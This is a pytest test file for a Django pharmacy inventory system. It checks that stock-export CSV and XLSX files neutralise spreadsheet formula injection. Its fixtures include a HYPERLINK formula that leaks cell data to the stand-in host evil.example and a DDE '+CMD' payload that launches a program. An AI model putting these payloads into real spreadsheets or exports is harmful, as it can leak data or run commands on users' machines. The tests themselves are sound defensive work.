"""Every stock export neutralises spreadsheet formulas (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from accounts.models import User
from inventory import imports
from inventory.models import Drug, MovementKind
from pharmacies.models import Pharmacy
from programmes.models import Programme
from tests.factories.inventory import at, book, open_q3, row, run_import
from tests.factories.sessions import login

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_sec_formula_in_purchase_export_csv_and_xlsx_is_neutralised(
    client: Client, manager: User, pharmacy: Pharmacy, catalogue: dict[str, Drug]
) -> None:
    drug = catalogue["amlodipine"]
    run_import(pharmacy, "a.csv", imports.write_csv([row(drug)]))
    Drug.objects.filter(pk=drug.pk).update(manufacturer=EVIL, specification="@SUM(1+1)")
    login(client, manager)
    text = client.get("/inventory/export/?format=csv").content.decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert "'" + EVIL in cells and "'@SUM(1+1)" in cells
    assert EVIL not in [c for c in cells if not c.startswith("'")]
    book_ = load_workbook(io.BytesIO(client.get("/inventory/export/").content))
    values = [c.value for c in next(book_.active.iter_rows(min_row=2))]
    assert "'" + EVIL in values and "'@SUM(1+1)" in values


def test_sec_formula_in_count_sheet_is_neutralised(
    client: Client, hy: Programme, pharmacy: Pharmacy, catalogue: dict[str, Drug], manager: User
) -> None:
    drug = catalogue["amlodipine"]
    book(pharmacy, drug, MovementKind.PURCHASE, 40, at(date(2026, 8, 1)), batch_no="-1+1")
    Drug.objects.filter(pk=drug.pk).update(generic_name="+CMD|' /C calc'!A0")
    stocktake = open_q3(hy, pharmacy)
    with time_machine.travel(datetime(2026, 10, 10, 9, 0)):
        login(client, manager)
        sheet = client.get(f"/inventory/stocktakes/{stocktake.pk}/sheet.xlsx")
    rows = list(load_workbook(io.BytesIO(sheet.content)).active.iter_rows(values_only=True))
    assert rows[3][2] == "'+CMD|' /C calc'!A0" and rows[3][5] == "'-1+1"
